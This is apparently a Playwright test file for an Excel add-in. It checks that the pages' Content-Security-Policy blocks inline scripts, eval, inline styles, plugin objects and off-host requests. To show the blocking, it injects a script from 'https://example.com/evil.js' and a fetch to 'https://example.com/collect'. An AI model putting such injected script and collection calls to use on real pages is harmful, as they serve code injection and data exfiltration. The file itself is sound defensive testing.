/**
 * The pages' Content-Security-Policy (scripts/csp.cjs) in force, in headless Chromium against the built dist/: the
 * policy is the first thing in each page's <head>; the pane and the command page load under it with no violation and
 * ask nothing of any host but the local server (office.js's CDN is answered locally by the harness, and is the only
 * other address the page may name); an inline script, an inline style, eval, a script or a connection to another
 * host and a plugin object are refused; the old-browser notice still runs, from its own file.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createRequire } from 'node:module';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { DIST, ROOT, keepOffline } from './browser/harness';
import { usePaneSession } from './browser/session';
import { plan2027 } from '../taskpane/plan-2027';

interface Csp {
  OFFICE_JS_CDN: string;
  contentSecurityPolicy(options?: { devServer?: string }): string;
}
const csp = createRequire(import.meta.url)(join(ROOT, 'scripts', 'csp.cjs')) as Csp;

/** A violation as the page saw it (the securitypolicyviolation event). */
interface Violation {
  readonly directive: string;
  readonly blocked: string;
}

/** Collects the page's securitypolicyviolation events from its first script on (an init script runs before any). */
const WATCH_VIOLATIONS = `
  window.__cspViolations = [];
  document.addEventListener('securitypolicyviolation', function (e) {
    window.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
  });
`;

interface Watched {
  readonly page: Page;
  /** Every URL the page requested (a request the policy blocks is reported too, then fails). */
  readonly requests: string[];
  /** Requests that failed, with why (the policy's blocks say "csp"). */
  readonly failed: { url: string; why: string }[];
  /** Requests the harness refused because they would have left the machine. */
  readonly refused: string[];
  readonly errors: string[];
  violations(): Promise<Violation[]>;
  close(): Promise<void>;
}

const session = usePaneSession();

/** Opens a built page with the Excel fake, watching requests, errors and violations from the start. */
async function open(file: string, before: (page: Page) => Promise<void> = async () => undefined): Promise<Watched> {
  return openAt(file, before);
}

/** As open(), at an address that may carry ?view= or #help. */
async function openAt(address: string, before: (page: Page) => Promise<void>): Promise<Watched> {
  const context = await session.browser.newContext({ viewport: { width: 320, height: 760 }, locale: 'vi-VN', timezoneId: 'Asia/Ho_Chi_Minh' });
  const page = await context.newPage();
  const requests: string[] = [];
  const errors: string[] = [];
  const failed: { url: string; why: string }[] = [];
  page.on('request', (r) => requests.push(r.url()));
  page.on('requestfailed', (r) => failed.push({ url: r.url(), why: r.failure()?.errorText ?? '' }));
  page.on('pageerror', (e) => errors.push(String(e)));
  await page.addInitScript({ content: WATCH_VIOLATIONS });
  const refused = await keepOffline(page, session.baseUrl);
  await page.addInitScript({ content: session.fakeScript });
  await page.addInitScript({ content: 'window.VtltFake.install({});' });
  await before(page);
  await page.goto(`${session.baseUrl}/${address}`);
  return {
    page,
    requests,
    failed,
    refused,
    errors,
    violations: () => page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations.slice()),
    close: () => context.close(),
  };
}

/** True for the local server and office.js's CDN folder (which the harness answers from node_modules). */
function allowedRequest(url: string): boolean {
  return url.startsWith(`${session.baseUrl}/`) || url.startsWith(csp.OFFICE_JS_CDN);
}

/** No policy violation, no uncaught error, no request refused or sent anywhere but the local server and the CDN. */
async function expectNothingRefused(pane: Watched): Promise<void> {
  expect(await pane.violations()).toEqual([]);
  expect(pane.errors).toEqual([]);
  expect(pane.refused).toEqual([]);
  expect(pane.requests.filter((u) => !allowedRequest(u))).toEqual([]);
}

/** The built page's <head>, and the text of its tags. */
function headOf(html: string): string {
  return /<head>([\s\S]*?)<\/head>/i.exec(html)?.[1] ?? '';
}

describe('the built pages declare the policy', () => {
  for (const page of ['taskpane.html', 'commands.html']) {
    it(`${page}: the policy is the first thing after the charset, and the page has no inline script or style`, () => {
      const html = readFileSync(join(DIST, page), 'utf8');
      const head = headOf(html);
      const meta = /<meta http-equiv=["']?Content-Security-Policy["']? content="([^"]*)"/i.exec(head);
      expect(meta?.[1]).toBe(csp.contentSecurityPolicy());
      // Only the charset may come before it: a policy governs what follows it.
      expect(head.slice(0, meta?.index).replace(/<meta charset=["']?utf-8["']?\s*\/?>/i, '').trim()).toBe('');
      expect(meta?.[1]).not.toMatch(/unsafe-inline|unsafe-eval|\*/);
      expect(meta?.[1]).toContain("object-src 'none'");
      // Every script is a file; no <style> element, no style or on* attribute.
      for (const tag of html.match(/<script\b[^>]*>/gi) ?? []) expect(tag, tag).toMatch(/\ssrc=/i);
      expect(html.replace(/<script\b[^>]*>\s*<\/script>/gi, '')).not.toMatch(/<script\b/i);
      expect(html).not.toMatch(/<style\b/i);
      expect(html).not.toMatch(/\s(?:style|on[a-z]+)=/i);
    });
  }

  it('taskpane.html links its style sheet and the old-browser notice as files of its own', () => {
    const html = readFileSync(join(DIST, 'taskpane.html'), 'utf8');
    const sheets = [...html.matchAll(/<link\b[^>]*href=["']?([^"'\s>]+\.css)/gi)].map((m) => m[1] ?? '');
    expect(sheets).toHaveLength(1);
    expect(sheets[0]).toMatch(/^taskpane\.[0-9a-f]{8}\.css$/);
    const notice = /<script\b[^>]*src=["']?(legacy-notice\.[0-9a-f]{8}\.js)/i.exec(html)?.[1];
    expect(notice).toBeDefined();
    expect(readFileSync(join(DIST, sheets[0] ?? ''), 'utf8')).toContain('#app{');
    expect(readFileSync(join(DIST, notice ?? ''), 'utf8')).toBe(readFileSync(join(ROOT, 'src/taskpane/legacy-notice.js'), 'utf8'));
  });
});

describe('the pane under the policy', () => {
  let pane: Watched;

  beforeAll(async () => {
    pane = await open('taskpane.html');
    await pane.page.locator('#app > *').first().waitFor({ timeout: 60_000 });
    // Lazily loaded parts come in when the pane reads the workbook: let them settle.
    await pane.page.waitForLoadState('networkidle');
  }, 120_000);

  afterAll(async () => {
    await pane?.close();
  });

  it('loads and draws with no violation, no error and no notice, styled by its linked sheet', async () => {
    const { page } = pane;
    expect(await pane.violations()).toEqual([]);
    expect(pane.errors).toEqual([]);
    expect(await page.locator('[data-legacy-notice]').count()).toBe(0);
    expect(await page.locator('style').count()).toBe(0);
    // The sheet took effect: the Fluent tokens of taskpane.css and the padding of boot.css.
    const styled = await page.evaluate(() => ({
      font: getComputedStyle(document.body).fontFamily,
      token: getComputedStyle(document.documentElement).getPropertyValue('--font').trim(),
      padding: getComputedStyle(document.getElementById('app') as HTMLElement).paddingLeft,
    }));
    expect(styled.font).toContain('Segoe UI');
    expect(styled.token).toContain('Segoe UI');
    expect(styled.padding).toBe('12px');
  });

  it('asks nothing of any host but the local server and the office.js CDN the harness answers', () => {
    expect(pane.refused).toEqual([]);
    expect(pane.requests.filter((u) => !allowedRequest(u))).toEqual([]);
    expect(pane.requests.some((u) => u.startsWith(csp.OFFICE_JS_CDN))).toBe(true);
    expect(pane.requests.some((u) => /\/taskpane\.[0-9a-f]{8}\.css$/.test(u))).toBe(true);
  });

  it('refuses an inline script and eval', async () => {
    const { page } = pane;
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__inlineRan = true;';
      document.body.append(script);
      await new Promise((r) => setTimeout(r, 50));
      let evaluated: string;
      try {
        evaluated = String((0, eval)('"evaluated"'));
      } catch (e) {
        evaluated = (e as Error).name;
      }
      return { inline: (window as unknown as { __inlineRan?: boolean }).__inlineRan ?? false, evaluated };
    });
    expect(ran).toEqual({ inline: false, evaluated: 'EvalError' });
    // The violation events come as tasks of their own: waited for, not assumed to be there after a fixed delay.
    await expect.poll(() => pane.violations()).toEqual(expect.arrayContaining([
      { directive: 'script-src-elem', blocked: 'inline' },
      { directive: 'script-src', blocked: 'eval' },
    ]));
  });

  it('refuses an inline style, a script and a connection elsewhere, and a plugin object', async () => {
    const { page } = pane;
    const outcome = await page.evaluate(async () => {
      const style = document.createElement('style');
      style.textContent = 'body { outline: 7px solid red; }';
      document.head.append(style);
      const script = document.createElement('script');
      script.src = 'https://example.com/evil.js';
      document.body.append(script);
      const object = document.createElement('object');
      object.data = `${location.origin}/assets/icon-16.png`;
      document.body.append(object);
      let fetched: string;
      try {
        await fetch('https://example.com/collect');
        fetched = 'sent';
      } catch {
        fetched = 'refused';
      }
      await new Promise((r) => setTimeout(r, 100));
      return { outline: getComputedStyle(document.body).outlineStyle, fetched };
    });
    expect(outcome).toEqual({ outline: 'none', fetched: 'refused' });
    // The object's load (and its violation) and the failed requests' events may come after the page's script ends.
    const directives = () => pane.violations().then((seen) => seen.map((v) => v.directive));
    await expect.poll(directives).toEqual(expect.arrayContaining(['style-src-elem', 'script-src-elem', 'connect-src', 'object-src']));
    // Blocked by the browser for the policy: nothing reached the network, nor the harness's router before it.
    const elsewhere = pane.requests.filter((u) => u.includes('example.com'));
    const whyFailed = () => elsewhere.map((url) => [url, pane.failed.find((f) => f.url === url)?.why ?? '(not failed yet)']);
    await expect.poll(whyFailed).toEqual(elsewhere.map((url) => [url, expect.stringMatching(/csp/i)]));
    expect(pane.refused).toEqual([]);
  });
});

describe('the lazily loaded parts under the policy', () => {
  // Each view and the help come with chunks of their own (the tools, the help, the documents...): each address of the
  // ribbon's buttons, and #help, loads with no violation and asks nothing elsewhere.
  // The view buttons' addresses as manifest.xml gives them, with the query Office adds when it loads a pane
  // (_host_Info, as Excel on Windows does); each opens the pane on its view's tab.
  const manifest = readFileSync(join(ROOT, 'manifest.xml'), 'utf8');
  const ribbon = [...manifest.matchAll(/<bt:Url id="Taskpane\.\w+\.Url" DefaultValue="https:\/\/localhost:3000\/([^"]+)"/g)].map((m) => m[1] ?? '');
  it('the ribbon names the five views', () => {
    expect(ribbon.map((a) => a.replace('taskpane.html?view=', ''))).toEqual(['tracker', 'forms', 'check', 'consolidate', 'documents']);
  });
  for (const address of [...ribbon.map((a) => `${a}&_host_Info=Excel$Win32$16.01$vi-VN$$$$0`), 'taskpane.html#help']) {
    it(`${address}: on its view, with no violation, no error, no other host`, async () => {
      const pane = await open(address);
      try {
        await pane.page.locator('#app > *').first().waitFor({ timeout: 60_000 });
        await pane.page.waitForLoadState('networkidle');
        const view = /[?&]view=([a-z]+)/.exec(address)?.[1];
        if (view) await pane.page.locator(`[role="tab"][data-view="${view}"][aria-selected="true"]`).waitFor({ timeout: 30_000 });
        await expectNothingRefused(pane);
      } finally {
        await pane.close();
      }
    });
  }

  it("a plan file read with the schema library (zod): no eval attempted, so no violation", async () => {
    // zod's object schemas try new Function('') unless told not to (src/taskpane/zod-jitless.ts); the attempt would be
    // refused by the policy and reported.
    const pane = await open('taskpane.html?view=tracker');
    try {
      const card = pane.page.locator('[data-section="insert"]');
      await expect.poll(() => card.locator('[data-plan]').textContent(), { timeout: 30_000 }).toContain('2026');
      const plan = JSON.stringify(plan2027());
      await card.locator('input[type="file"]').setInputFiles({ name: 'ke-hoach-2027.json', mimeType: 'application/json', buffer: Buffer.from(plan, 'utf8') });
      await expect.poll(() => card.locator('[data-plan]').textContent(), { timeout: 30_000 }).toContain('2027');
      expect(pane.requests.some((u) => /chunks\/pack-schema\./.test(u))).toBe(true);
      expect(await pane.violations()).toEqual([]);
      expect(pane.errors).toEqual([]);
    } finally {
      await pane.close();
    }
  });
});

describe('the other pages under the policy', () => {
  it('the command page (Làm mới hạn) loads with no violation and asks only the local server and the CDN', async () => {
    const page = await open('commands.html');
    try {
      await page.page.waitForLoadState('networkidle');
      await expectNothingRefused(page);
    } finally {
      await page.close();
    }
  });

  it('an old engine gets the notice from its file, with no violation', async () => {
    // An engine without String.prototype.replaceAll (as the old web views), whose bundle cannot run.
    const page = await open('taskpane.html', async (p) => {
      await p.addInitScript({ content: 'delete String.prototype.replaceAll;' });
      await p.route(/\/taskpane\.[0-9a-f]{8}\.js$/, (route) => route.abort());
    });
    try {
      const app = page.page.locator('#app[data-legacy-notice="true"]');
      await app.waitFor({ timeout: 30_000 });
      expect(await app.textContent()).toContain('Phiên bản Excel này không chạy được bổ trợ.');
      expect(await page.page.locator('#app p[lang="en"]').textContent()).toContain('use Microsoft 365, Excel 2021 or later');
      expect(await page.violations()).toEqual([]);
    } finally {
      await page.close();
    }
  });
});
